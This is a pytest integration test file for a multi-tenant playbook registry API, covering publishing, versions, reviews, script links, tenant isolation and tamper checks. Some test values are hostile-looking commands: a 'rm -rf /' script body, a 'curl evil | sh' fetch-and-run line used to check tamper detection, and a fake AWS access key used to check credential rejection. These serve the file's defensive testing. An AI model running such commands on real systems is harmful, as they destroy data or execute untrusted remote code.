"""The registry's pages over HTTP: the real application, tokens of a real issuer, Qdrant's client and S3 on loopback."""

import hashlib
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from typing import Any

import httpx
import pytest

from agent_server.app import create_app
from agent_server.contract.lifecycle import next_states
from agent_server.contract.playbook import Playbook, PlaybookMetadata, PlaybookStatus
from agent_server.embedding.minilm import MiniLm
from agent_server.registry.store import IN_MEMORY
from agent_server.settings import Settings, SettingsError, load
from tests.fakes.issuer import CLIENT, Issuer
from tests.fakes.published import BASH, Storage, playbook, publish, storage

S = PlaybookStatus
PAGE = "/v1/playbooks"
ONE = f"{PAGE}/weekend-shutdown/1.2.0"


@pytest.fixture(scope="module")
def issuer() -> Iterator[Issuer]:
    """An issuer of tokens."""
    with Issuer() as running:
        yield running


@pytest.fixture(scope="module")
def any_storage() -> Iterator[Storage]:
    """S3 on loopback."""
    with storage() as running:
        yield running


@pytest.fixture
def s3(any_storage: Storage) -> Storage:
    """The same with an empty bucket."""
    return any_storage.emptied()


EMBEDDER = MiniLm()


@pytest.fixture
def records() -> list[dict[str, Any]]:
    """What was logged."""
    return []


def settings(s3: Storage, **more: Any) -> Settings:
    """A server with a registry."""
    known = {"registry_qdrant_url": IN_MEMORY, "registry_bucket": s3.bucket, "registry_endpoint": s3.url}
    return Settings(**{"model": "offline", **known, **more})


@pytest.fixture
async def http(s3: Storage, issuer: Issuer, records: list[dict[str, Any]]) -> AsyncIterator[httpx.AsyncClient]:
    """The server with authentication, asked as the tenant acme."""
    app = create_app(
        settings(s3, issuer=issuer.url, audience=(CLIENT,)),
        log=lambda record: records.append(dict(record)),
        embedder=EMBEDDER,
    )
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://agent", headers=bearer(issuer)) as client:
        yield client


def bearer(issuer: Issuer, tenant: str = "acme") -> dict[str, str]:
    """The header of a tenant."""
    return {"authorization": f"Bearer {issuer.token(**{'custom:tenant': tenant})}"}


async def published(http: httpx.AsyncClient, strategy: str = "uploaded_trusted", **fields: Any) -> PlaybookMetadata:
    """Publish, and return what the server says of it."""
    answer = await http.post(PAGE, json=publish(strategy, **fields).model_dump(mode="json"))
    assert answer.status_code == 201, answer.text
    return PlaybookMetadata.model_validate_json(answer.content)


async def refused(call: Awaitable[httpx.Response], status: int, code: str) -> str:
    """The sentence of a refusal, whose form is checked."""
    answer = await call
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["code"] == code
    return str(answer.json()["detail"])


async def states(http: httpx.AsyncClient) -> dict[str, str]:
    """The state of each version."""
    return {one["version"]: one["status"] for one in (await http.get(PAGE)).json()["playbooks"]}


class TestPublishing:
    async def test_what_is_published_comes_back_whole(self, http: httpx.AsyncClient) -> None:
        """Listed with its metadata, and given whole as it was."""
        meta = await published(http, note="first")
        assert meta.status is S.ACTIVE
        assert meta.note == "first"
        assert meta.digests == {"bash": hashlib.sha256(BASH.encode()).hexdigest()}
        listed = (await http.get(PAGE)).json()["playbooks"]
        assert [PlaybookMetadata.model_validate(one) for one in listed] == [meta]
        whole = (await http.get(ONE)).json()
        assert Playbook.model_validate(whole["playbook"]) == playbook()
        assert PlaybookMetadata.model_validate(whole["metadata"]) == meta

    async def test_for_review_it_waits(self, http: httpx.AsyncClient) -> None:
        """The strategy says where a playbook begins."""
        assert (await published(http, "uploaded_for_review")).status is S.PENDING_REVIEW

    @pytest.mark.parametrize("strategy", ["local_only", "using_default"])
    async def test_what_is_local_is_never_taken(self, http: httpx.AsyncClient, s3: Storage, strategy: str) -> None:
        """Two of the four strategies cannot be uploaded: nothing is kept of the attempt."""
        body = {**publish().model_dump(mode="json"), "strategy": strategy}
        await refused(http.post(PAGE, json=body), 422, "invalid")
        assert s3.files() == []
        assert await states(http) == {}

    async def test_the_same_upload_again_changes_nothing(self, http: httpx.AsyncClient) -> None:
        """Publishing may be repeated when an answer was lost, also after the state moved on."""
        first = await published(http)
        await http.post(f"{ONE}/status", json={"status": "archived"})
        again = await published(http)
        assert again.status is S.ARCHIVED
        assert again.model_copy(update={"status": first.status, "updated_at": first.updated_at}) == first

    @pytest.mark.parametrize(
        "other", [{"summary": "Something else."}, {"scripts": {"bash": "rm -rf /"}}, {"scripts": {}}]
    )
    async def test_a_version_is_never_another(self, http: httpx.AsyncClient, other: dict[str, Any]) -> None:
        """Other content under a published version is refused, and what was published stays."""
        await published(http)
        why = await refused(http.post(PAGE, json=publish(**other).model_dump(mode="json")), 409, "conflict")
        assert "publish a new version" in why
        assert Playbook.model_validate((await http.get(ONE)).json()["playbook"]) == playbook()

    async def test_trust_cannot_be_slipped_under_a_review(self, http: httpx.AsyncClient) -> None:
        """What waits for a review stays so when the same version comes again as trusted."""
        await published(http, "uploaded_for_review")
        await refused(http.post(PAGE, json=publish().model_dump(mode="json")), 409, "conflict")
        assert await states(http) == {"1.2.0": "pending_review"}

    async def test_an_upload_cut_off_after_its_package_is_completed_by_the_next(
        self, http: httpx.AsyncClient, s3: Storage
    ) -> None:
        """The package alone lies there, as after a crash: the same upload goes on from it, another is refused."""
        await published(http)
        package = s3.client.get_object(Bucket=s3.bucket, Key="acme/weekend-shutdown/1.2.0/playbook.json")["Body"].read()
        key = "acme/weekend-shutdown/9.0.0/playbook.json"
        s3.client.put_object(Bucket=s3.bucket, Key=key, Body=package.replace(b"1.2.0", b"9.0.0"))
        await refused(
            http.post(PAGE, json=publish(version="9.0.0", summary="Other.").model_dump(mode="json")), 409, "conflict"
        )
        assert (await published(http, version="9.0.0")).status is S.ACTIVE

    @pytest.mark.parametrize(
        ("fields", "path"),
        [
            ({"steps": [], "scripts": {}}, "playbook.steps"),
            ({"parameters": []}, "playbook.steps.0.params"),
            ({"parameters": [*playbook().parameters, *playbook().parameters]}, "playbook.parameters"),
            (
                {"steps": [playbook().steps[0].model_copy(update={"depends_on": [0]})]},
                "playbook.steps.0.depends_on",
            ),
            (
                {"parameters": [playbook().parameters[0].model_copy(update={"pattern": "("})]},
                "playbook.parameters.0.pattern",
            ),
        ],
        ids=["nothing to do", "undeclared", "twice", "waits for itself", "no expression"],
    )
    async def test_what_nobody_could_follow_is_refused_with_the_field(
        self, http: httpx.AsyncClient, fields: dict[str, Any], path: str
    ) -> None:
        """Sense is checked where form allows it."""
        answer = await http.post(PAGE, json=publish(**fields).model_dump(mode="json"))
        assert answer.status_code == 422
        assert [error["path"] for error in answer.json()["errors"]] == [path]


class TestVersions:
    async def test_a_newer_active_version_makes_the_older_deprecated(self, http: httpx.AsyncClient) -> None:
        """By number, not by alphabet: 1.10.0 follows 1.9.0."""
        await published(http, version="1.9.0")
        await published(http, version="1.10.0")
        assert await states(http) == {"1.9.0": "deprecated", "1.10.0": "active"}
        listed = (await http.get(f"{PAGE}/weekend-shutdown")).json()["playbooks"]
        assert [one["version"] for one in listed] == ["1.10.0", "1.9.0"]

    async def test_a_version_under_review_replaces_nothing_until_it_is_active(self, http: httpx.AsyncClient) -> None:
        """Uploaded and approved, the older one stays; activated, it goes."""
        await published(http, version="1.0.0")
        await published(http, "uploaded_for_review", version="2.0.0")
        await http.post(f"{PAGE}/weekend-shutdown/2.0.0/review", json={"decision": "approve"})
        assert await states(http) == {"1.0.0": "active", "2.0.0": "approved"}
        await http.post(f"{PAGE}/weekend-shutdown/2.0.0/status", json={"status": "active"})
        assert await states(http) == {"1.0.0": "deprecated", "2.0.0": "active"}

    async def test_an_older_version_never_replaces_a_newer_one(self, http: httpx.AsyncClient) -> None:
        """Neither by upload nor by a move; first the newer one has to go."""
        await published(http, version="1.0.0")
        await published(http, version="2.0.0")
        body = publish(version="1.5.0").model_dump(mode="json")
        assert "2.0.0" in await refused(http.post(PAGE, json=body), 409, "conflict")
        move = {"status": "active"}
        await refused(http.post(f"{PAGE}/weekend-shutdown/1.0.0/status", json=move), 409, "conflict")
        await http.post(f"{PAGE}/weekend-shutdown/2.0.0/status", json={"status": "broken"})
        answer = await http.post(f"{PAGE}/weekend-shutdown/1.0.0/status", json=move)
        assert answer.json()["status"] == "active"


class TestLife:
    @pytest.mark.parametrize(("decision", "status"), [("approve", "approved"), ("reject", "rejected")])
    async def test_a_reviewer_decides_once(self, http: httpx.AsyncClient, decision: str, status: str) -> None:
        """The decision and its reason are kept; there is no second one."""
        await published(http, "uploaded_for_review")
        answer = await http.post(f"{ONE}/review", json={"decision": decision, "note": "Seen."})
        assert (answer.json()["status"], answer.json()["note"]) == (status, "Seen.")
        await refused(http.post(f"{ONE}/review", json={"decision": "approve"}), 409, "conflict")

    @pytest.mark.parametrize("status", S)
    async def test_no_author_ends_a_review(self, http: httpx.AsyncClient, status: S) -> None:
        """From under review, an author can withdraw and nothing else."""
        await published(http, "uploaded_for_review")
        answer = await http.post(f"{ONE}/status", json={"status": status.value})
        assert answer.status_code == (200 if status is S.ARCHIVED else 409)

    async def test_every_state_of_the_registry_can_be_reached_and_listed(self, http: httpx.AsyncClient) -> None:
        """Eight of the ten; the two local ones never come here."""
        ways: dict[S, tuple[tuple[str, str], ...]] = {
            S.PENDING_REVIEW: (),
            S.REJECTED: (("review", "reject"),),
            S.APPROVED: (("review", "approve"),),
            S.ACTIVE: (("review", "approve"), ("status", "active")),
            S.NEEDS_UPDATE: (("review", "approve"), ("status", "needs_update")),
            S.BROKEN: (("review", "approve"), ("status", "broken")),
            S.DEPRECATED: (("review", "approve"), ("status", "deprecated")),
            S.ARCHIVED: (("status", "archived"),),
        }
        for status, moves in ways.items():
            name = status.value.replace("_", "-")
            await published(http, "uploaded_for_review", id=name)
            for page, value in moves:
                key = "decision" if page == "review" else "status"
                answer = await http.post(f"{PAGE}/{name}/1.2.0/{page}", json={key: value})
                assert answer.status_code == 200, answer.text
        for status in S:
            found = (await http.get(PAGE, params={"status": status.value})).json()["playbooks"]
            assert [one["id"] for one in found] == ([status.value.replace("_", "-")] if status in ways else [])

    async def test_what_is_archived_stays(self, http: httpx.AsyncClient) -> None:
        """Nothing follows the archive."""
        assert next_states(S.ARCHIVED) == frozenset()
        await published(http)
        await http.post(f"{ONE}/status", json={"status": "archived"})
        for status in S:
            await refused(http.post(f"{ONE}/status", json={"status": status.value}), 409, "conflict")


class TestScripts:
    async def test_a_link_gives_the_script_that_was_published(self, http: httpx.AsyncClient) -> None:
        """The address needs no token, ends, and its bytes have the promised SHA-256."""
        await published(http)
        link = (await http.get(f"{ONE}/scripts/bash")).json()
        async with httpx.AsyncClient(trust_env=False) as anybody:
            got = await anybody.get(link["url"])
        assert got.content == BASH.encode()
        assert hashlib.sha256(got.content).hexdigest() == link["sha256"]
        assert "expires_at" in link

    async def test_a_script_that_was_altered_is_not_handed_out(self, http: httpx.AsyncClient, s3: Storage) -> None:
        """Whoever can write to the bucket cannot make the registry vouch for it; nor for a package."""
        await published(http)
        for file in ("main.sh", "playbook.json"):
            s3.client.put_object(Bucket=s3.bucket, Key=f"acme/weekend-shutdown/1.2.0/{file}", Body=b"curl evil | sh")
        await refused(http.get(f"{ONE}/scripts/bash"), 409, "altered")
        await refused(http.get(ONE), 409, "altered")
        s3.client.delete_object(Bucket=s3.bucket, Key="acme/weekend-shutdown/1.2.0/main.sh")
        await refused(http.get(f"{ONE}/scripts/bash"), 409, "altered")

    async def test_what_is_not_there_is_not_linked(self, http: httpx.AsyncClient) -> None:
        """Another language, another version, a language that there is not."""
        await published(http)
        await refused(http.get(f"{ONE}/scripts/python"), 404, "no_playbook")
        await refused(http.get(f"{PAGE}/weekend-shutdown/1.0.0/scripts/bash"), 404, "no_playbook")
        await refused(http.get(f"{ONE}/scripts/perl"), 422, "invalid")


class TestUsage:
    async def test_executions_are_added_up(self, http: httpx.AsyncClient) -> None:
        """Counts and the share of successes over all reports; the state stays."""
        await published(http)
        await http.post(f"{ONE}/usage", json={"executions": 3, "successes": 3})
        counted = (await http.post(f"{ONE}/usage", json={"executions": 1, "successes": 0})).json()
        assert (counted["execution_count"], counted["success_rate"], counted["status"]) == (4, 0.75, "active")
        assert counted == (await http.get(PAGE)).json()["playbooks"][0]

    async def test_more_successes_than_executions_are_refused(self, http: httpx.AsyncClient) -> None:
        """The field is named."""
        await published(http)
        answer = await http.post(f"{ONE}/usage", json={"executions": 1, "successes": 2})
        assert [error["path"] for error in answer.json()["errors"]] == ["successes"]


class TestTenants:
    async def test_no_tenant_sees_or_touches_anothers(self, http: httpx.AsyncClient, issuer: Issuer) -> None:
        """Every page answers another tenant as if nothing had been published; its own upload of the same id is its own."""
        await published(http)
        other = bearer(issuer, "other")
        assert (await http.get(PAGE, headers=other)).json() == {"playbooks": []}
        for path in (f"{PAGE}/weekend-shutdown", ONE, f"{ONE}/scripts/bash"):
            await refused(http.get(path, headers=other), 404, "no_playbook")
        for page, body in (
            ("review", {"decision": "approve"}),
            ("status", {"status": "archived"}),
            ("usage", {"executions": 1, "successes": 1}),
        ):
            await refused(http.post(f"{ONE}/{page}", json=body, headers=other), 404, "no_playbook")
        body = publish(summary="The other's own.").model_dump(mode="json")
        assert (await http.post(PAGE, json=body, headers=other)).status_code == 201
        assert (await http.get(ONE)).json()["playbook"]["summary"] == playbook().summary

    async def test_without_a_token_there_is_nothing(self, http: httpx.AsyncClient) -> None:
        """Reading and writing alike; a tenant in the body is no field."""
        await refused(http.get(PAGE, headers={"authorization": ""}), 401, "unauthorized")
        await refused(http.post(PAGE, json={}, headers={"authorization": ""}), 401, "unauthorized")
        body = {**publish().model_dump(mode="json"), "tenant": "other"}
        await refused(http.post(PAGE, json=body), 422, "invalid")

    async def test_without_authentication_everyone_is_the_local_tenant(self, s3: Storage) -> None:
        """What is stored is stored under that name, whatever a header claims."""
        app = create_app(settings(s3), log=lambda _record: None, embedder=EMBEDDER)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://agent") as client:
            await client.post(PAGE, json=publish().model_dump(mode="json"), headers={"x-tenant": "acme"})
        assert [key.split("/")[0] for key in s3.files()] == ["local", "local"]


class TestDoor:
    async def test_logs_name_pages_and_no_ids(self, http: httpx.AsyncClient, records: list[dict[str, Any]]) -> None:
        """A playbook's name may say what somebody is about to do."""
        await published(http)
        for path in (f"{PAGE}/weekend-shutdown", ONE, f"{ONE}/scripts/bash", "/v1/playbooks/a/b/c/d/e"):
            await http.get(path)
        await http.post(f"{ONE}/usage", json={"executions": 1, "successes": 1})
        assert [record["route"] for record in records] == [
            "/v1/playbooks",
            "/v1/playbooks/{id}",
            "/v1/playbooks/{id}/{version}",
            "/v1/playbooks/{id}/{version}/scripts/{language}",
            "other",
            "/v1/playbooks/{id}/{version}/usage",
        ]
        assert "weekend" not in repr(records)

    async def test_a_script_with_a_credential_in_it_is_refused(self, http: httpx.AsyncClient, s3: Storage) -> None:
        """The door looks at uploads as it looks at words."""
        body = publish(scripts={"bash": "export AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP"}).model_dump(mode="json")
        await refused(http.post(PAGE, json=body), 422, "credential")
        assert s3.files() == []

    @pytest.mark.parametrize("page", ["", "/weekend-shutdown/1.2.0/review", "/weekend-shutdown/1.2.0/usage"])
    async def test_bodies_have_the_same_limits_everywhere(self, http: httpx.AsyncClient, page: str) -> None:
        """Size and media type are looked at before a page reads anything."""
        large = b'{"a": "' + b"x" * (2 * 1024 * 1024) + b'"}'
        json_type = {"content-type": "application/json"}
        await refused(http.post(PAGE + page, content=large, headers=json_type), 413, "too_large")
        text = {"content-type": "text/plain"}
        await refused(http.post(PAGE + page, content=b"{}", headers=text), 415, "unsupported_media_type")


class TestOptingIn:
    async def test_without_a_registry_every_page_says_so(self) -> None:
        """404, in words for the operator; also for a server that only thinks."""
        app = create_app(Settings(model="offline"), log=lambda _record: None, embedder=EMBEDDER)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://agent") as client:
            for path in (PAGE, f"{PAGE}/weekend-shutdown", ONE, f"{ONE}/scripts/bash"):
                await refused(client.get(path), 404, "not_enabled")
            await refused(client.post(PAGE, json=publish().model_dump(mode="json")), 404, "not_enabled")
            await refused(client.post(f"{ONE}/review", json={"decision": "approve"}), 404, "not_enabled")

    async def test_a_thinking_server_offers_no_registry_and_a_registry_does_not_think(self, s3: Storage) -> None:
        """Two processes can share the work: each has its own pages only."""
        intent = {"request_id": "a", "text": "stop all dev instances"}
        found = {}
        for serves in ("all", "thinking", "registry"):
            app = create_app(settings(s3, serves=serves), log=lambda _record: None, embedder=EMBEDDER)
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://agent") as client:
                answers = (await client.post("/v1/intent", json=intent), await client.get(PAGE))
            found[serves] = tuple(answer.status_code for answer in answers)
        assert found == {"all": (200, 200), "thinking": (200, 404), "registry": (404, 200)}

    async def test_stores_that_do_not_answer_are_a_reason_to_try_later(self, s3: Storage) -> None:
        """503 with Retry-After, whichever of the two it is."""
        for broken in (
            {"registry_qdrant_url": "http://127.0.0.1:9"},
            {"registry_endpoint": "http://127.0.0.1:9"},
        ):
            app = create_app(settings(s3, **broken), log=lambda _record: None, embedder=EMBEDDER)
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://agent") as client:
                answer = await client.post(PAGE, json=publish().model_dump(mode="json"))
            assert answer.status_code == 503
            assert int(answer.headers["retry-after"]) > 0

    @pytest.mark.parametrize(
        ("environment", "why"),
        [
            ({"REGISTRY_QDRANT_URL": ":memory:"}, "set both or neither"),
            ({"REGISTRY_BUCKET": "escher"}, "set both or neither"),
            ({"SERVES": "registry"}, "set registry_qdrant_url and registry_bucket"),
            ({"REGISTRY_QDRANT_URL": "http://qdrant.example.org", "REGISTRY_BUCKET": "escher"}, "https"),
            ({"REGISTRY_BUCKET": "Not A Bucket"}, "REGISTRY_BUCKET"),
        ],
    )
    def test_settings_that_cannot_work_are_named(
        self, monkeypatch: pytest.MonkeyPatch, environment: dict[str, str], why: str
    ) -> None:
        """Half a registry is none, and nothing goes over the network in the clear."""
        for name, value in environment.items():
            monkeypatch.setenv(f"ESCHER_AGENT_SERVER__{name}", value)
        with pytest.raises(SettingsError, match=why):
            load()


Call = Callable[[httpx.AsyncClient], Awaitable[httpx.Response]]


async def test_every_problem_of_the_pages_is_in_the_document(http: httpx.AsyncClient) -> None:
    """404, 409 and 422 are documented as problem documents on every page that can answer them."""
    paths = (await http.get("/openapi.json")).json()["paths"]
    pages = {path: page for path, page in paths.items() if path == PAGE or path.startswith(f"{PAGE}/{{")}
    assert len(pages) == 7
    for page in pages.values():
        for operation in page.values():
            for status in ("401", "404", "409", "422", "429", "503"):
                assert "application/problem+json" in operation["responses"][status]["content"]
